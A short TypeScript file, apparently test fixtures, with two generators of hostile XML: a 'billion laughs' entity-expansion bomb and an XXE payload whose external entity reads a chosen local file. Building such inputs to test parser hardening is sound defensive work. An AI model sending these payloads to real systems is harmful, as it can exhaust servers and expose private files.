/** Nine levels of entities, each ten of the one below: 10^9 "lol"s if a parser expanded them. */
export function billionLaughs(root: string): string {
  let entities = '<!ENTITY lol0 "lol">';
  for (let i = 1; i <= 9; i++) entities += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  return `<?xml version="1.0"?><!DOCTYPE ${root} [${entities}]><${root}>&lol9;</${root}>`;
}

/** An external entity naming a local file: a parser that resolved it would bring the file's text back. */
export function externalEntity(root: string, path: string): string {
  return `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file://${path}">]><${root}>&xxe;</${root}>`;
}
